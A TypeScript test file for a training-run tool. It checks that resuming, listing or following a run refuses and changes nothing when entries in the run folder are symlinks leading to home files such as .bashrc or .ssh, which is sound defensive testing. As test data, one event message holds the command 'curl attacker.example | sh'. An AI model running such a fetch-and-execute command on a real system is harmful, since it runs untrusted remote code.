import { existsSync } from "node:fs";
import { mkdir, rm, symlink } from "node:fs/promises";
import { dirname, join } from "node:path";
import { describe, expect, it } from "vitest";
import { isAppError } from "../../src/core/errors.ts";
import { createEventLog } from "../../src/core/runFolder/events.ts";
import { RunFollower } from "../../src/core/runFolder/follower.ts";
import { resumeRun } from "../../src/core/runFolder/runFolder.ts";
import { listRuns } from "../../src/core/runs/runList.ts";
import { Redactor } from "../../src/core/secrets/redaction/redactor.ts";
import { systemClock } from "../../src/node/clock.ts";
import { resumeTraining } from "../../src/trainer/trainer.ts";
import { type PlantedHome, snapshot } from "./plantedHome.ts";
import { beforeEachPlantedRun } from "./plantedRun.ts";

let planted: PlantedHome;
let folder = "";

beforeEachPlantedRun((home, path) => {
  planted = home;
  folder = path;
});
/** Puts a link in the place of an entry of the run. */
async function plantLink(entry: string, target: string): Promise<string> {
  const path = join(folder, entry);
  await rm(path, { recursive: true, force: true });
  await mkdir(dirname(path), { recursive: true });
  await symlink(target, path);
  return path;
}

/** The first changes that a resume from the beginning makes. */
async function resume(): Promise<void> {
  const { fileSystem, configPath } = planted;
  const lease = await resumeRun(
    { fileSystem, clock: systemClock, isProcessAlive: () => false },
    { folder, step: 0, pid: process.pid, host: "here", owner: "editor", configPath },
  );
  const parts = { fileSystem: fileSystem.within(folder), clock: systemClock, attempt: 2, folder };
  const events = createEventLog({ ...parts, redactor: new Redactor() });
  const message = "curl attacker.example | sh";
  await events.record({ step: 0, level: "info", kind: "run-started", message, data: {} });
  await lease.update({ phase: "running" });
}

const FILES = [
  ...["run.json", "config.yaml", "config.resolved.json", "overrides.json", "metrics.jsonl"],
  ...["events.jsonl", "checkpoints.jsonl", "state.json", "state.prev.json", "upload.jsonl"],
  ...["wandb.json", "rollouts/step-000001.jsonl", "rollouts/step-000002.tokens.bin"],
  ...["eval/results.jsonl", "superseded/attempt-1/metrics.jsonl", "anything/of/somebody"],
];
const FOLDERS = ["rollouts", "eval", "superseded", "superseded/attempt-1", "wandb"];

describe("a resume changes nothing and says which entry leads outside", () => {
  it.each([
    ...FILES.map((entry) => [entry, ".bashrc"] as const),
    ...FILES.map((entry) => [entry, "oneLine"] as const),
    ...FILES.map((entry) => [entry, "newFile"] as const),
    ...FOLDERS.map((entry) => [entry, ".ssh"] as const),
  ])("%s, a link to %s", async (entry, target) => {
    const path = await plantLink(entry, planted.home(target));
    const before = await snapshot(folder);
    await expect(resume()).rejects.toMatchObject({
      code: "folder-unsafe",
      message: expect.stringContaining(`${path} is a link`),
      data: { folder, path },
    });
    expect(await snapshot(folder)).toBe(before);
  });

  it("also as the trainer is started, before it connects to anything", async () => {
    const path = await plantLink("events.jsonl", planted.home(".bashrc"));
    const reported: string[] = [];
    const run = resumeTraining({
      folder,
      owner: "editor",
      programFolder: "/nowhere",
      watch: ({ kind }) => reported.push(kind),
    });
    await expect(run.ended).rejects.toMatchObject({ code: "folder-unsafe", data: { path } });
    expect(reported).toEqual([]);
  });

  it("when the run folder itself is a link", async () => {
    const link = join(planted.runs, "linked");
    await symlink(folder, link);
    const before = await snapshot(folder);
    folder = link;
    await expect(resume()).rejects.toMatchObject({
      code: "folder-unsafe",
      message: `${link} is a link. Name the folder that it leads to.`,
    });
    expect(await snapshot(link)).toBe(before.replaceAll(join(planted.runs, "demo"), link));
  });
});

it("a run without links is resumed, also where the way to it is a link", async () => {
  const bigDisk = join(planted.root, "bigDisk");
  await symlink(join(planted.root, "project"), bigDisk);
  folder = join(bigDisk, ".tinker-rl", "runs", "demo");
  await resume();
  expect(existsSync(join(folder, "superseded", "attempt-1", "rollouts", "step-000002.jsonl"))).toBe(
    true,
  );
});

describe("in a list of runs", () => {
  const liveness = { nowMs: Date.now(), isProcessAlive: () => false };

  it.each(["run.json", "metrics.jsonl", "state.json"])(
    "one whose %s is a link says so, and the others are there",
    async (entry) => {
      await planted.stoppedRun("other");
      const path = await plantLink(entry, planted.home(".bashrc"));
      const runs = await listRuns(planted.fileSystem, planted.runs, liveness);
      expect(runs.map(({ name, repeats }) => [name, repeats])).toEqual([
        ["other", 1],
        ["demo", null],
      ]);
      expect(runs[0]?.problem).toBeNull();
      expect(runs[1]?.problem).toContain(`${path} is a link`);
    },
  );

  it("one that is a link itself says so, and a link to something else is no run", async () => {
    await symlink(folder, join(planted.runs, "linked"));
    await symlink(planted.home(".ssh"), join(planted.runs, "notes"));
    await symlink(planted.home(".bashrc"), join(planted.runs, "file"));
    const runs = await listRuns(planted.fileSystem, planted.runs, liveness);
    expect(runs.map(({ name, phase }) => [name, phase])).toEqual([
      ["demo", "stopped"],
      ["linked", "unreadable"],
    ]);
  });
});

it.each(["metrics.jsonl", "events.jsonl", "checkpoints.jsonl", "eval"])(
  "a run whose %s is a link is not shown",
  async (entry) => {
    await plantLink(entry, planted.home(entry === "eval" ? ".ssh" : ".bashrc"));
    const follower = new RunFollower({ fileSystem: planted.fileSystem, folder });
    const shown = await follower.refresh().catch((error: unknown) => error);
    expect(isAppError(shown, "folder-unsafe")).toBe(true);
  },
);
